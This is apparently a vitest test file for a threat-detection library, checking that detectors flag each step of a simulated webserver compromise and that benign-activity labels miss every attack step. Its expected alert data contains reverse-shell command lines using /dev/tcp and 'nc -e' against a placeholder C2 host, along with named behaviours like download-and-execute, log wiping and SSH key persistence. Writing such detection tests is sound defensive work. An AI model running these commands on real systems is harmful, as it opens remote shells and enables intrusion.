import { fileURLToPath } from 'node:url';
import { type Alert, type AnyDetector, analyze, fromFile, fromString } from '@tripline/core';
import {
  edrAgentRecon,
  edrInventoryScript,
  edrLog4jScan,
  execProcessReplacement,
  linuxThreatDetectors,
  rootCronLogon,
  searchIndexSegmentDeletion,
  sysstatCollection,
  unknownSignature,
} from '@tripline/detectors-defender';
import { describe, expect, it } from 'vitest';
// make-events.mjs is plain ESM (no type declarations): build() gives the rows and which are attack steps.
import { BRUTE, build, C2 } from './make-events.mjs';

/** Detectors that label activity as a known benign class: none of them may claim an attack step. */
const BENIGN_LABELS: readonly AnyDetector[] = [
  sysstatCollection,
  edrInventoryScript,
  edrLog4jScan,
  searchIndexSegmentDeletion,
  edrAgentRecon,
  rootCronLogon,
];
const ALL: readonly AnyDetector[] = [
  ...linuxThreatDetectors,
  ...BENIGN_LABELS,
  execProcessReplacement,
  unknownSignature,
];
const EVENTS = fileURLToPath(new URL('./events.ndjson', import.meta.url));

const find = (alerts: readonly Alert[], id: string, key: string) =>
  alerts.find((a) => a.detectorId === id && a.key === key);

describe('examples/attack-webserver', () => {
  it('events.ndjson is what make-events.mjs writes (CRLF, big ReportIds bare)', async () => {
    const { readFileSync } = await import('node:fs');
    const text = readFileSync(EVENTS, 'utf8');
    expect(text).toBe((build() as { text: string }).text);
    expect(text.includes('\r\n')).toBe(true);
    expect(text).toMatch(/"ReportId":639201847216534417[,}]/);
  });

  it('raises the expected alert for every step, with its severity and key components', async () => {
    const result = await analyze(fromFile(EVENTS), { detectors: [...ALL] });
    expect(result.summary.eventsRejected).toBe(0);
    const a = result.alerts;

    // 1. reverse shell through PHP-FPM, and the exec into nc -e
    const rev = find(a, 'defender/suspicious-command-line', 'reverse-shell')!;
    expect(rev.severity).toBe('high');
    expect(rev.evidence.keyComponents['Command Lines']).toEqual([
      `sh -c "bash -i >& /dev/tcp/${C2}/4444 0>&1"`,
      `sh -c "nc -e /bin/sh ${C2} 4445"`,
      `nc -e /bin/sh ${C2} 4445`,
    ]);
    expect(rev.evidence.keyComponents['Exec Chains']).toEqual(['dash → nc.traditional (ProcessId 52301)']);
    expect(rev.evidence.keyComponents['Parent Processes']).toContain('php-fpm8.1');
    const exec = a.filter((x) => x.detectorId === 'defender/exec-process-replacement');
    for (const e of exec) expect(e.severity).toBe('high');

    // 2. brute force, then root from the same address
    const bf = find(a, 'defender/logon-brute-force', BRUTE)!;
    expect(bf.severity).toBe('high');
    expect(bf.evidence.keyComponents).toMatchObject({
      'Remote IP': BRUTE,
      Failures: '36',
      'Success Account': ['root'],
    });
    expect(bf.mitre.map((m) => m.id)).toContain('T1078');
    const pub = find(a, 'defender/public-remote-logon', `${BRUTE} root`)!;
    expect(pub.severity).toBe('high');
    expect(pub.evidence.keyComponents).toMatchObject({ AccountName: 'root', PosixUserId: '0' });

    // 3. wiping traces and persistence: the dropped script (one alert) and the command lines
    const script = a.find((x) => x.detectorId === 'defender/suspicious-script-content')!;
    expect(script.severity).toBe('high');
    expect(script.evidence.keyComponents['Script Path']).toBe('/dev/shm/.t.sh');
    expect(script.evidence.keyComponents.Behaviours).toEqual([
      'download and execute',
      'shell history cleared or disabled',
      'system logs cleared or edited',
      'cron job written',
      'SSH authorized_keys modified',
    ]);
    expect(script.mitre.map((m) => m.id)).toEqual([
      'T1053.003',
      'T1059.004',
      'T1070.002',
      'T1070.003',
      'T1098.004',
      'T1105',
    ]);
    const sev = (key: string) => find(a, 'defender/suspicious-command-line', key)?.severity;
    expect(sev('history-clearing')).toBe('medium');
    expect(sev('log-tampering')).toBe('medium');
    expect(sev('cron-persistence')).toBe('medium');
    expect(sev('download-exec')).toBe('high');
    expect(sev('ssh-authorized-keys')).toBe('high');

    // 4. the indexer's data wiped by rm -rf
    const wipe = find(a, 'defender/destructive-deletion', '/var/lib/wazuh-indexer')!;
    expect(wipe.severity).toBe('high');
    expect(wipe.evidence.keyComponents).toMatchObject({
      'Files Deleted': '126',
      'Deleting Processes': ['rm'],
      Accounts: ['root'],
    });

    // The background is still recognised as what it is.
    expect(a.some((x) => x.detectorId === 'defender/search-index-segment-deletion')).toBe(true);
    expect(a.some((x) => x.detectorId === 'defender/root-cron-logon')).toBe(true);
    // …and the VPN administrator raises nothing of ours.
    expect(a.some((x) => x.detectorId === 'defender/public-remote-logon' && x.key.startsWith('10.'))).toBe(false);
  });

  it('no benign class labels any attack step', async () => {
    const { lines, attack } = build() as { lines: string[]; attack: boolean[] };
    const attackOnly = lines.filter((_, i) => attack[i]).join('\r\n');
    const result = await analyze(fromString(attackOnly, 'attack-rows'), { detectors: [...BENIGN_LABELS] });
    expect(result.summary.eventsAnalyzed).toBe(attack.filter(Boolean).length);
    expect(result.alerts.map((x) => `${x.detectorId} ${x.key}`)).toEqual([]);
  });
});
